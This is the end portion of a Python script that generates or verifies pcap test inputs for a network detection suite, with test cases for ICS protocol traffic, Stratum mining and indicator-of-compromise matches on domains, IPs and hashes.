    "ics-dnp3-outside": t_dnp3_outside,
    "ics-iec104-outside": t_iec104_outside,
    "ics-s7comm-outside": t_s7_outside,
    "ics-bacnet-outside": t_bacnet_outside,
    "threat-stratum-mining": t_stratum,
    "ioc-domain-dns": t_ioc_domain_dns,
    "ioc-domain-http": t_ioc_domain_http,
    "ioc-domain-tls": t_ioc_domain_tls,
    "ioc-ip-http-host": t_ioc_ip_http,
    "ioc-ip-outbound": t_ioc_ip_outbound,
    "ioc-ip-inbound": t_ioc_ip_inbound,
    "ioc-file-sha256": t_ioc_file_sha256,
}


def main():
    args = sys.argv[1:]
    check = args[:1] == ["--check"]
    if check:
        args = args[1:]
    if len(args) != 1:
        sys.stderr.write("usage: mkmunicipal.py [--check] DIR\n")
        return 2
    bad = 0
    for name, fn in sorted(TESTS.items()):
        cap = Capture()
        fn(cap)
        data = cap.bytes()
        path = "%s/%s/input.pcap" % (args[0], name)
        if check:
            try:
                same = open(path, "rb").read() == data
            except OSError:
                same = False
            if not same:
                print("mkmunicipal: %s differs from what this script makes" % path)
                bad += 1
            continue
        import os
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
